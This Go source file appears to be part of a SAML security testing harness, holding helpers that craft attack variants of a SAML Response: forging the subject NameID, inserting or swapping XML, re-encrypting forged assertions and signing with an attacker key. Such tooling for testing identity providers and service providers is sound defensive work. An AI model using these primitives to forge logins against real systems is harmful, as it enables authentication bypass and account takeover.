package attack

import (
	"strings"
	"time"

	"github.com/beevik/etree"
)

// The vocabulary that attacks are written in. Paths are etree's, from the
// Response, by local name.

const (
	top          = "."
	asrt         = "./Assertion"
	nameID       = "./Assertion/Subject/NameID"
	subject      = "./Assertion/Subject"
	confirmation = "./Assertion/Subject/SubjectConfirmation"
	data         = "./Assertion/Subject/SubjectConfirmation/SubjectConfirmationData"
	conditions   = "./Assertion/Conditions"
	restriction  = "./Assertion/Conditions/AudienceRestriction"
	authn        = "./Assertion/AuthnStatement"
	class        = "./Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef"
	statement    = "./Assertion/AttributeStatement"
	statusCode   = "./Status/StatusCode"
)

// find gives an element of the document, and something to go on with where
// there is none.
func (d *draft) find(path string) *etree.Element {
	if el := d.tree.Root().FindElement(path); el != nil {
		return el
	}
	d.fail("the document has no %s", path)
	return etree.NewElement("missing")
}

// node makes an element with attributes: names and values in turn.
func node(tag string, attrs ...string) *etree.Element {
	out := etree.NewElement(tag)
	for i := 0; i < len(attrs); i += 2 {
		out.CreateAttr(attrs[i], attrs[i+1])
	}
	return out
}

// child makes one at the end of another.
func child(parent *etree.Element, tag string, attrs ...string) *etree.Element {
	out := node(tag, attrs...)
	parent.AddChild(out)
	return out
}

// before puts an element beside another, in front of it.
func before(at, el *etree.Element) { at.Parent().InsertChildAt(at.Index(), el) }

// swap puts an element in another's place, which is then free.
func swap(old, el *etree.Element) {
	parent, at := old.Parent(), old.Index()
	parent.RemoveChildAt(at)
	parent.InsertChildAt(at, el)
}

// in runs several changes of the tree one after the other.
func in(changes ...func(*draft)) func(*draft) {
	return func(d *draft) {
		for _, c := range changes {
			c(d)
		}
	}
}

func set(path, attr, value string) func(*draft) {
	return func(d *draft) { d.find(path).CreateAttr(attr, value) }
}

// setAt sets an attribute to an instant relative to now.
func setAt(path, attr string, offset time.Duration) func(*draft) {
	return func(d *draft) { d.find(path).CreateAttr(attr, d.at(offset)) }
}

// edit rewrites an attribute.
func edit(path, attr string, f func(string) string) func(*draft) {
	return func(d *draft) {
		el := d.find(path)
		old := el.SelectAttrValue(attr, "")
		el.CreateAttr(attr, d.changed(old, f(old)))
	}
}

func unset(path, attr string) func(*draft) {
	return func(d *draft) { d.find(path).RemoveAttr(attr) }
}

func remove(path string) func(*draft) {
	return func(d *draft) {
		detach(d.find(path))
	}
}

func setText(path, text string) func(*draft) {
	return func(d *draft) { d.find(path).SetText(text) }
}

func editText(path string, f func(string) string) func(*draft) {
	return func(d *draft) {
		el := d.find(path)
		el.SetText(d.changed(el.Text(), f(el.Text())))
	}
}

// changed notes that an attack would be none, for example because there is no
// letter to write in another case.
func (d *draft) changed(old, changed string) string {
	if old == changed {
		d.fail("the attack does not change %q", old)
	}
	return changed
}

// add puts XML at the end of an element.
func add(path, xml string) func(*draft) {
	return func(d *draft) { d.find(path).AddChild(d.parse(xml)) }
}

// first puts XML in front of an element.
func first(path, xml string) func(*draft) {
	return func(d *draft) { before(d.find(path), d.parse(xml)) }
}

// inPlace puts XML in an element's place.
func inPlace(path, xml string) func(*draft) {
	return func(d *draft) { swap(d.find(path), d.parse(xml)) }
}

// sameID gives the Response the assertion's ID.
func sameID(d *draft) { d.resp.CreateAttr("ID", d.asrt.SelectAttrValue("ID", "")) }

// nested is as many elements inside each other.
func nested(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }

// parse makes an element of XML; %audience%, %recipient% and so on stand for
// the document's parameters.
func (d *draft) parse(xml string) *etree.Element {
	doc := etree.NewDocument()
	if err := doc.ReadFromString(d.expand(xml)); err != nil || doc.Root() == nil {
		d.fail("parsing %q: %v", xml, err)
		return etree.NewElement("missing")
	}
	return doc.Root()
}

func (d *draft) expand(s string) string {
	if d.p.OtherACS == "" && strings.Contains(s, "%other%") {
		d.fail("Params.OtherACS is required")
	}
	return strings.NewReplacer("%audience%", d.p.Audience, "%recipient%", d.p.Recipient, "%other%", d.p.OtherACS,
		"%request%", d.p.RequestID, "%subject%", d.p.Subject, "%forged%", d.p.Forged, "%issuer%", d.p.Issuer,
		"%now%", d.at(0), "%until%", d.at(lifetime), "%past%", d.at(-time.Hour), "%ns%", nsAssertion).Replace(s)
}

// replace changes the first occurrence of a text in the document.
func replace(old, with string) func(*draft, string) string {
	return func(d *draft, doc string) string {
		old := d.expand(old)
		if !strings.Contains(doc, old) {
			d.fail("the document does not hold %q", old)
		}
		return strings.Replace(doc, old, d.expand(with), 1)
	}
}

// between puts texts around one.
func between(head, tail string) func(*draft, string) string {
	return func(_ *draft, s string) string { return head + s + tail }
}

// becomes puts a text in the place of all.
func becomes(text string) func(*draft, string) string {
	return func(d *draft, _ string) string { return d.expand(text) }
}

// beforeStatus puts text right after the start tag of the Response.
func beforeStatus(text string) func(*draft, string) string {
	return replace("<saml2p:Status>", text+"<saml2p:Status>")
}

// afterDeclaration puts text between the XML declaration and the Response.
func afterDeclaration(text string) func(*draft, string) string {
	return replace("<saml2p:Response", text+"<saml2p:Response")
}

// needsAttacker notes that a case can't be made without the attacker's key.
func (d *draft) needsAttacker() bool {
	if d.p.AttackerKey == nil {
		d.fail("Params.AttackerKey is required")
		return false
	}
	return true
}

// attackerSigns has the attacker sign an element.
func (d *draft) attackerSigns(el *etree.Element) {
	if d.needsAttacker() {
		d.sign(el, d.p.AttackerKey)
	}
}

// byAttacker makes the attacker sign in the identity provider's place.
func byAttacker(d *draft) {
	if d.needsAttacker() {
		d.key = d.p.AttackerKey
	}
}

// forge makes the subject of the document the one that the attacker wants.
// Anyone can encrypt for the service provider, so encryption does not stop it.
func forge(d *draft) {
	d.forgeSubject(d.asrt)
	old := d.tree.Root().SelectElement("EncryptedAssertion")
	if old == nil {
		return
	}
	swap(old, d.encrypted("saml2:EncryptedAssertion", d.plaintext(d.asrt), *d.encryption))
}

// extensions gives the Response an empty samlp:Extensions, in its place before
// Status (Core 3.2.2): the one part of a Response that may hold anything.
func (d *draft) extensions() *etree.Element {
	el := node("saml2p:Extensions")
	before(d.find("./Status"), el)
	return el
}

// without gives a copy of an element without its own Signature.
func without(el *etree.Element) *etree.Element {
	out := el.Copy()
	if s := out.SelectElement("Signature"); s != nil {
		out.RemoveChild(s)
	}
	return out
}

// forgedAssertion is a copy of the assertion about another user, not signed.
func (d *draft) forgedAssertion() *etree.Element {
	out := without(d.asrt)
	out.CreateAttr("ID", d.newID())
	d.forgeSubject(out)
	return out
}

func (d *draft) forgeSubject(assertion *etree.Element) {
	if name := d.p.IdentityAttribute; name != "" {
		for _, a := range assertion.FindElements("./AttributeStatement/Attribute") {
			if value := a.SelectElement("AttributeValue"); value != nil && a.SelectAttrValue("Name", "") == name {
				value.SetText(d.p.Forged)
			}
		}
	}
	if id := assertion.FindElement("./Subject/NameID"); id != nil {
		id.SetText(d.p.Forged)
		return
	}
	d.fail("the assertion has no NameID")
}

// forgedResponse is a copy of the Response with a forged assertion in it,
// neither of them signed.
func (d *draft) forgedResponse() *etree.Element {
	out := without(d.resp)
	out.CreateAttr("ID", d.newID())
	swap(out.SelectElement("Assertion"), d.forgedAssertion())
	return out
}

// afterIssuer puts elements right after the Issuer of el, in order.
func afterIssuer(el *etree.Element, children ...*etree.Element) {
	at := el.SelectElement("Issuer").Index() + 1
	for i, c := range children {
		el.InsertChildAt(at+i, c)
	}
}

// detach takes an element out of its parent.
func detach(el *etree.Element) *etree.Element {
	if el.Parent() != nil {
		el.Parent().RemoveChild(el)
	}
	return el
}
